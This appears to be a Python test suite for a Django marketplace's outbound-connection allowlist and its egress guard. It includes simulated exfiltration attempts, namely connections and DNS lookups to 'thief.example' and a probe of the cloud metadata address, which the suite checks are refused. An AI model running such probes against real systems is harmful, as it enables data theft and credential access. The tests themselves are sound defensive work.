"""Whom the application talks to: the list of the settings, the table of docs/security.md, and the guard of a whole process."""

import ast
import json
import re
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from urllib.parse import urlsplit

import boto3
import pytest
from django.conf import settings

from project.settings import outbound
from project.tests.test_settings import fit, production

TABLE = (settings.BASE_DIR / "docs" / "security.md").read_text()
TABLE = TABLE.split("### What the application talks to\n")[1].split("\n### ")[0]
ROWS = {
    who: where
    for who, _by, where in re.findall(r"^\| (\w[^|]*?) \| ([^|]*) \| ([^|]*`[^|]*) \|$", TABLE, re.MULTILINE)
}

# Where everybody would be, by the variable that says so.
EVERYBODY = {
    "DATABASE_URL": "postgresql://u:p@db.example:5433/x",
    "REDIS_URL": "redis://:p@redis.example:6380",
    "CELERY_BROKER_URL": "rediss://broker.example:6381/1",
    "CELERY_RESULT_BACKEND": "redis://results.example:6382/1",
    "GOOGLE_ISSUER": "https://google.example",
    "ESKIZ_BASE_URL": "https://eskiz.example",
    "EMAIL_HOST": "mail.example",
    "EMAIL_PORT": "2525",
    "ATMOS_BASE_URL": "https://atmos.example",
    "CLICK_API_URL": "https://click.example/v2",
    "STRIPE_API_BASE": "https://stripe.example",
    "FREEDOMPAY_API_URL": "https://freedompay.example",
    "CLOUDPAYMENTS_API_URL": "https://cloudpayments.example:8443",
    "TELEGRAM_API_BASE": "https://telegram.example",
    "AWS_S3_ENDPOINT_URL": "https://store.example:9000",
    "SENTRY_DSN": "https://key@sentry.example/7",
    "LOG_SHIP_URL": "syslog+tls://logs.example",
    "CLAMD_URL": "tcp://clamd.example:3310",
    "OUTBOUND_EXTRA_HOSTS": "proxy.example:3128",
}
# What must be set besides, so that each of them is set up.
BESIDES = {
    "GOOGLE_CLIENT_ID": "4711", "GOOGLE_CLIENT_SECRET": "a-secret-of-google",
    "SMS_PROVIDER": "eskiz", "ESKIZ_EMAIL": "a@b.uz", "ESKIZ_PASSWORD": "a-secret-of-eskiz",
    "TELEGRAM_BOT_TOKEN": "4711:a-secret-of-the-bot", "TELEGRAM_BOT_NAME": "bot",
    "UZCARD_STORE_ID": "901", "UZCARD_CONSUMER_KEY": "k", "UZCARD_CONSUMER_SECRET": "s", "ATMOS_API_KEY": "a",
    "CLICK_SERVICE_ID": "902", "CLICK_MERCHANT_ID": "903", "CLICK_SECRET_KEY": "s",
    "STRIPE_SECRET_KEY": "sk", "STRIPE_WEBHOOK_SECRET": "wh",
    "FREEDOMPAY_MERCHANT_ID": "904", "FREEDOMPAY_SECRET_KEY": "s",
    "CLOUDPAYMENTS_PUBLIC_ID": "pk", "CLOUDPAYMENTS_API_SECRET": "s",
    "AWS_ACCESS_KEY_ID": "a", "AWS_SECRET_ACCESS_KEY": "s",
    "AWS_STORAGE_BUCKET_NAME": "media", "AWS_PRIVATE_BUCKET_NAME": "private", "AWS_S3_REGION_NAME": "eu-central-1",
}  # fmt: skip
SHOW = (
    "import json; from django.conf import settings;"
    "print(json.dumps([[p.who, p.scheme, p.host, p.port] for p in settings.OUTBOUND]))"
)


def listed(tmp_path, **env):
    """The list of a production with these variables: (who, scheme, host, port)."""
    started = production(tmp_path, SHOW, **env)
    assert started.returncode == 0, started.stderr
    return [tuple(one) for one in json.loads(started.stdout)]


@pytest.fixture(scope="module")
def everybody(tmp_path_factory):
    return listed(tmp_path_factory.mktemp("logs"), **{**fit(), **EVERYBODY, **BESIDES})


# --- The table of docs/security.md ------------------------------------------------------------------


def test_the_table_names_whoever_is_on_the_list(everybody):
    assert set(ROWS) == {who for who, *_where in everybody}


@pytest.mark.parametrize("variable", sorted(set(re.findall(r"`([A-Z][A-Z0-9_]+)`", "".join(ROWS.values())))))
def test_each_address_of_the_table_is_on_the_list_where_the_table_says(everybody, variable):
    who = next(who for who, where in ROWS.items() if f"`{variable}`" in where)
    hosts = {host for one, _scheme, host, _port in everybody if one == who}
    ports = {port for one, _scheme, _host, port in everybody if one == who}

    if variable == "EMAIL_PORT":
        assert ports == {2525}
    elif variable in EVERYBODY:
        value = EVERYBODY[variable]
        assert (urlsplit(value).hostname or value.partition(":")[0]) in hosts
    else:
        assert variable in BESIDES


def test_the_list_is_that_and_no_more(everybody):
    told = {
        urlsplit(value).hostname or value.partition(":")[0]
        for name, value in EVERYBODY.items()
        if name != "EMAIL_PORT"
    }

    assert {host for _who, _scheme, host, _port in everybody} == told
    assert ("payment providers", "https", "cloudpayments.example", 8443) in everybody
    assert ("log server", "syslog+tls", "logs.example", 6514) in everybody
    assert ("PostgreSQL", "postgresql", "db.example", 5433) in everybody


def test_who_is_not_set_up_is_not_on_the_list(tmp_path):
    assert listed(tmp_path, **fit()) == [("mail server", "smtp", "mail.wibestore.example", 587)]


def test_google_and_amazon_are_there_by_their_own_names(tmp_path):
    found = listed(tmp_path, **{**fit(), **BESIDES})

    assert {host for who, _scheme, host, _port in found if who == "Google"} == {
        "accounts.google.com", "oauth2.googleapis.com", "www.googleapis.com"
    }  # fmt: skip
    assert {host for who, _scheme, host, _port in found if who == "object store"} == {
        f"{bucket}.s3{region}.amazonaws.com"
        for bucket in ("media", "private")
        for region in ("", ".eu-central-1")
    }


@pytest.mark.parametrize("bucket", ["media", "media.shop.uz"])
def test_the_names_of_the_bucket_are_those_its_library_calls(bucket):
    called = []
    session = boto3.session.Session(aws_access_key_id="a", aws_secret_access_key="b")
    client = session.client("s3", region_name="eu-central-1")
    client.meta.events.register(
        "before-send.s3", lambda request, **_: called.append(request.url) or _Nothing()
    )

    client.head_object(Bucket=bucket, Key="x")

    options = {"endpoint_url": None, "bucket_name": bucket, "region_name": "eu-central-1"}
    assert urlsplit(called[0]).hostname in {one.host for one in outbound._buckets(options)}


class _Nothing:
    """An answer that comes instead of the wire."""

    status_code, headers, content, text = 200, {}, b"", ""


@pytest.mark.parametrize("entry", ["*", "*.example.com", "https://example.com"])
def test_production_does_not_start_with_a_list_of_everybody(tmp_path, entry):
    started = production(tmp_path, **{**fit(), "OUTBOUND_EXTRA_HOSTS": entry})

    assert started.returncode != 0
    assert f"{entry!r} is not host, host:port or host:*" in started.stderr


# --- One door ---------------------------------------------------------------------------------------

# Who opens connections, and what for; whoever else imports such a module should call core.http.
DOORS = {
    "core/http.py": {"http.client", "urllib.request", "urllib.error"},
    "core/outside.py": {"socket"},
    "core/log_shipping.py": {"socket", "ssl"},
    "core/scanning.py": {"socket"},
    "accounts/social.py": {"requests"},  # the form in which allauth asks; the wire is core.http
    "notifications/mail.py": {"smtplib"},  # the names of its errors
    "payments/providers/stripe.py": {"stripe"},  # the wire is core.http
    "payments/gateway/stripe.py": {"stripe"},  # the check of a signature
}
WIRES = {"http.client", "urllib.request", "urllib.error", "socket", "ssl", "requests", "smtplib", "stripe", "urllib3",
         "httpx", "aiohttp", "ftplib", "telnetlib", "imaplib", "poplib", "xmlrpc.client", "boto3", "asyncio.streams"}  # fmt: skip


def wires_of(file):
    tree = ast.parse(file.read_text())
    named = {alias.name for one in ast.walk(tree) if isinstance(one, ast.Import) for alias in one.names}
    named |= {one.module or "" for one in ast.walk(tree) if isinstance(one, ast.ImportFrom)}
    return {wire for wire in WIRES for name in named if name == wire or name.startswith(f"{wire}.")}


def test_nobody_calls_others_past_the_door():
    root = settings.BASE_DIR / "marketplace"
    files = [one for one in root.rglob("*.py") if "tests" not in one.parts and one.name != "testing.py"]
    found = {str(one.relative_to(root)): wires for one in files if (wires := wires_of(one))}

    assert found == DOORS, "call others by marketplace.core.http"


# --- The guard of a process of production -------------------------------------------------------------

# Nothing of this reaches a wire: 192.0.2.0/24 and .example are nobody's (RFC 5737, RFC 2606), and the guard comes first.
TRIES = {
    "a name": "socket.create_connection(('thief.example', 443), 1)",
    "an address": "socket.create_connection(('192.0.2.1', 443), 1)",
    "a bare connect": "socket.socket().connect(('192.0.2.1', 443))",
    "another port of this machine": "socket.create_connection(('127.0.0.1', 1), 1)",
    "where clouds keep their keys": "socket.create_connection(('169.254.169.254', 80), 1)",
    "a datagram": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.1', 53))",
    "IPv6": "socket.socket(socket.AF_INET6).connect(('2001:db8::1', 443))",
    "a question for a name": "socket.gethostbyname('secret.thief.example')",
    "requests": "__import__('requests').get('https://thief.example/', timeout=1)",
    "urllib": "__import__('urllib.request').request.urlopen('https://thief.example/', timeout=1)",
    "smtplib": "__import__('smtplib').SMTP('thief.example', 587, timeout=1)",
    "redis": "__import__('redis').Redis('thief.example', socket_timeout=1, retry=None).ping()",
    "boto3": "__import__('boto3').client('s3', region_name='eu-central-1', aws_access_key_id='a',"
    " aws_secret_access_key='b', config=__import__('botocore.config').config.Config(retries={'max_attempts': 0}))"
    ".list_objects(Bucket='thief')",
    "asyncio": "asyncio.run(asyncio.open_connection('thief.example', 443))",
    "asyncio, an address": "asyncio.run(asyncio.open_connection('192.0.2.1', 443))",
}
GUARDED = """
import asyncio, json, logging, socket, sys
import django; django.setup()
told = {}
for what, code in json.loads(sys.argv[1]).items():
    try:
        eval(code)
    except Exception as error:
        chain, one = [], error
        while one is not None:
            chain.append(f"{type(one).__name__}: {one}")
            one = one.__cause__ or one.__context__ or getattr(one, "reason", None)
        told[what] = " | ".join(map(str, chain))
    else:
        told[what] = "fine"
print(json.dumps(told))
"""


def guarded(tmp_path, tries, **env):
    """What came of each piece of code in a process of production, and what its log says."""
    code = GUARDED.replace("sys.argv[1]", repr(json.dumps(tries)))
    started = production(tmp_path, code, **{**fit(), **env})
    assert started.returncode == 0, started.stderr
    log = tmp_path / "wibestore.log"
    return json.loads(started.stdout.splitlines()[-1]), log.read_text() if log.exists() else ""


def test_nobody_else_is_reached_by_whatever_library(tmp_path):
    told, log = guarded(tmp_path, TRIES)

    assert {what: said for what, said in told.items() if "is not talked to" not in said} == {}
    assert "refused to talk to thief.example port -: not named by any setting" in log
    assert "refused to talk to 192.0.2.1 port 443" in log


@pytest.fixture
def port():
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_args):
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()
        yield server.server_port
        server.shutdown()


def test_who_is_on_the_list_is_reached_and_servers_of_ours_open(tmp_path, port):
    fine = {
        "by name": f"socket.create_connection(('localhost', {port}), 5)",
        "by address": f"socket.create_connection(('127.0.0.1', {port}), 5)",
        "a bare connect": f"socket.socket().connect(('127.0.0.1', {port}))",
        "a bare connect by name": f"socket.socket().connect(('localhost', {port}))",
        "requests": f"__import__('requests').get('http://localhost:{port}/', timeout=5)",
        "asyncio": f"asyncio.run(asyncio.open_connection('localhost', {port}))",
        "a pair": "(lambda one, other: one.sendmsg([b'x']))(*socket.socketpair())",
        "a server": "asyncio.run(asyncio.start_server(print, '0.0.0.0', 0))",
        "a server by name": "asyncio.run(asyncio.start_server(print, 'localhost', 0))",
        "our own name": "socket.getfqdn()",
    }

    told, log = guarded(tmp_path, fine, OUTBOUND_EXTRA_HOSTS=f"localhost:{port},127.0.0.1:{port}")

    assert set(told.values()) == {"fine"}, told
    assert log == ""


REBOUND = """
import json, socket
import django; django.setup()
from marketplace.core import outside
port = int(PORT)
outside._resolve = lambda host, *_, **__: [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("127.0.0.1", port))]
told = {}
for host in ("stripe.example", "db.example"):
    try:
        socket.create_connection((host, port), 5)
    except OSError as error:
        told[host] = str(error)
    else:
        told[host] = "fine"
print(json.dumps(told))
"""


def test_a_name_of_others_that_leads_inside_is_not_followed_by_libraries_either(tmp_path, port):
    """Both names lead to a server that is there; one of them is ours."""
    env = {
        "STRIPE_API_BASE": f"https://stripe.example:{port}",
        "STRIPE_SECRET_KEY": "sk",
        "STRIPE_WEBHOOK_SECRET": "wh",
        "REDIS_URL": f"redis://db.example:{port}",
    }
    started = production(tmp_path, REBOUND.replace("PORT", str(port)), **{**fit(), **env})

    told = json.loads(started.stdout.splitlines()[-1])
    assert "is not talked to" in told["stripe.example"]
    assert told["db.example"] == "fine"


def test_an_operator_can_first_listen_to_what_would_be_refused(tmp_path, port):
    tries = {"a server that no setting names": f"socket.create_connection(('127.0.0.1', {port}), 5)"}

    told, log = guarded(tmp_path, tries, OUTBOUND_GUARD="tell")

    assert told == dict.fromkeys(tries, "fine")
    assert f"would refuse to talk to 127.0.0.1 port {port}" in log


def test_production_does_not_start_without_its_guard(tmp_path):
    started = production(tmp_path, **{**fit(), "OUTBOUND_GUARD": "off"})

    assert started.returncode != 0
    assert "OUTBOUND_GUARD must be refuse or tell" in started.stderr
